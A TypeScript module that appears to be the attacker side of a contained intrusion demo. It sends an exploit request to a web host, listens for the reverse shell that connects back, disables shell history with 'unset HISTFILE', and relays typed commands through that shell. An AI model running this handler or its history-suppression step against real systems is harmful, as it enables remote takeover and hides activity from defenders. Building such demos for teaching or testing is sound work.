/**
 * The intruder's own machine, a program in a network namespace with one link to web-01. It sends the exploit as one
 * plain HTTP request, takes the shell that calls back, and types commands into it. It knows only the network: what it
 * learns of the hosts it learns through the shell. It takes its orders from the demo over the IPC channel of
 * `child_process` and ends with it.
 *
 * usage: node attacker.ts
 */

import { randomBytes } from "node:crypto";
import { get } from "node:http";
import { createServer, type Socket } from "node:net";
import { demoLimits } from "./limits.ts";

/** What the demo orders. Each order has one report, and orders do not overlap. */
export type AttackerOrder =
	/** Listen for the shell, send the request, report the shell. The path is percent-encoded. */
	| { readonly kind: "exploit"; readonly web: string; readonly path: string; readonly listen: Endpoint }
	/** Type one line into the shell and report its exit status. */
	| { readonly kind: "type"; readonly line: string };

export type AttackerReport =
	/** The program runs in its namespace; the network can be wired. */
	| { readonly kind: "ready" }
	/** The shell called back. `output` is what the HTTP answer has shown by then. */
	| { readonly kind: "shell"; readonly output: string }
	| { readonly kind: "typed"; readonly status: number; readonly output: string }
	| { readonly kind: "failed"; readonly detail: string };

export type Endpoint = { readonly address: string; readonly port: number };

let shell: Shell | undefined;

function report(message: AttackerReport): void {
	process.send?.(message);
}

process.on("message", (order: AttackerOrder) => {
	obey(order).then(report, (error: Error) => report({ kind: "failed", detail: error.message }));
});
process.on("disconnect", () => process.exit(0));
report({ kind: "ready" });

async function obey(order: AttackerOrder): Promise<AttackerReport> {
	if (order.kind === "exploit") {
		const [socket, output] = await exploit(order);
		shell = new Shell(socket);
		// The first prompt is swallowed with the first command, so every later output is the command's own.
		await shell.type("unset HISTFILE; PS1=");
		return { kind: "shell", output: output() };
	}
	if (shell === undefined) return { kind: "failed", detail: "there is no shell yet" };
	return { kind: "typed", ...(await shell.type(order.line)) };
}

/** Resolves with the shell's socket and a view of the HTTP answer, which stays open as long as the shell lives. */
function exploit(order: Extract<AttackerOrder, { kind: "exploit" }>): Promise<[Socket, () => string]> {
	return new Promise((resolve, reject) => {
		let body = "";
		const server = createServer((socket) => {
			server.close();
			resolve([socket, () => body]);
		});
		server.on("error", reject);
		server.listen(order.listen.port, order.listen.address, () => {
			const request = get({ host: order.web, port: 80, path: order.path }, (response) => {
				if (response.statusCode !== 200) reject(new Error(`the web server answered ${response.statusCode}`));
				response.on("data", (chunk) => {
					body += chunk;
				});
				// The answer breaks off when the host is destroyed; by then the shell has long been taken.
				response.on("error", reject);
			});
			request.on("error", reject);
		});
	});
}

/**
 * A shell at the other end of a socket: lines go in, and a mark typed after each tells where its output ends and how
 * it fared.
 */
class Shell {
	readonly #socket: Socket;
	#received = "";
	#wake: () => void = () => undefined;
	#closed: string | undefined;

	constructor(socket: Socket) {
		this.#socket = socket;
		socket.setEncoding("utf8");
		socket.on("data", (chunk) => {
			this.#received += chunk;
			if (this.#received.length > demoLimits.outputBytesMax) socket.destroy(new Error("the command printed too much"));
			this.#wake();
		});
		socket.on("error", (error) => this.#close(error.message));
		socket.on("close", () => this.#close("the shell is gone"));
	}

	async type(line: string): Promise<{ status: number; output: string }> {
		const mark = randomBytes(8).toString("hex");
		// The mark is typed in two halves, so an echo of the typed line can never be taken for the mark itself.
		this.#socket.write(`${line}\nprintf '\\n%s%s %s\\n' ${mark.slice(0, 8)} ${mark.slice(8)} $?\n`);
		const pattern = new RegExp(`\\n${mark} (\\d+)\\n`);
		for (;;) {
			const found = pattern.exec(this.#received);
			if (found !== null) {
				const output = this.#received.slice(0, found.index);
				this.#received = this.#received.slice(found.index + found[0].length);
				return { status: Number(found[1]), output };
			}
			if (this.#closed !== undefined) throw new Error(this.#closed);
			await new Promise<void>((resolve) => {
				this.#wake = resolve;
			});
		}
	}

	#close(reason: string): void {
		this.#closed ??= reason;
		this.#wake();
	}
}
